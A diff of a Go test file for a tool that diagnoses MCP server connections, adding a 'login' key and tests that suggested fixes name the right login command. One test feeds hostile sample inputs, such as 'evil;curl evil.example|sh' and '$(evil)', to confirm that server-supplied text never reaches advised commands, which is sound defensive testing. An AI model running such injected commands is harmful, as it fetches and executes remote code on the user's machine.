@@ -28,7 +28,7 @@ func TestNamesInTemplates(t *testing.T) {
 				if len(m[2]) < 2 {
 					t.Errorf("%s: nothing is said if %s is not known: %s", c.name, m[1], text)
 				}
-				if slices.Contains(fixes, text) && !slices.Contains([]string{"line", "command", "package", "pinned", "path", "url", "host", "turned", "port", "hash", "variable", "pairs", "flag", "step", "python"}, m[1]) {
+				if slices.Contains(fixes, text) && !slices.Contains([]string{"line", "command", "package", "pinned", "path", "url", "login", "host", "turned", "port", "hash", "variable", "pairs", "flag", "step", "python"}, m[1]) {
 					t.Errorf("%s: %s in a fix: %s", c.name, m[1], text)
 				}
 			}
@@ -53,7 +53,7 @@ func settings() map[string]Case {
 // Whatever a clue captures, no word of it gets into what a person copies and a model follows.
 func TestNothingAServerWroteIsAdvised(t *testing.T) {
 	knowledge()
-	keys := []string{"command", "package", "path", "url", "host", "line", "turned", "target", "other", "port", "hash", "flag", "option", "module", "scope", "version", "text", "listed", "hit", "variable", "variables", "step"}
+	keys := []string{"command", "package", "path", "url", "login", "host", "line", "turned", "target", "other", "port", "hash", "flag", "option", "module", "scope", "version", "text", "listed", "hit", "variable", "variables", "step"}
 	for _, value := range []string{"evil-package", "evil;curl evil.example|sh", "$(evil)", "`evil`", "--evil", "@evil/package", "https://evil.example/mcp", "/evil/path", "../evil", "notes;evil", "127.0.0.1:evil", "evil\nevil"} {
 		names := map[string]string{}
 		for _, key := range keys {
@@ -257,6 +257,15 @@ func TestAnswersOfAURL(t *testing.T) {
 		}
 		if strings.Contains(d.Fix, "evil") || strings.Contains(d.Fix, "touch") {
 			t.Errorf("%s: %s", c.what, d.Fix)
+		}
+	}
+	for says, c := range map[string]Case{
+		"`gauze login https://a.example/mcp --account work`":             {Account: "work"},
+		"Remove --login off and log in once in a terminal: `gauze login": {NoLogin: true},
+	} {
+		c.URL, c.Live, c.Stage, c.HTTP = "https://a.example/mcp", true, Started, []HTTP{{Status: 401, Authenticate: challenge}}
+		if d := Diagnose(c); !strings.Contains(d.Fix, says) {
+			t.Errorf("%s is missing: %s", says, d.Fix)
 		}
 	}
 	d := Diagnose(Case{URL: "https://a.example/mcp", Live: true, HTTP: []HTTP{{Status: 301, Location: "https://other.example/mcp"}}})
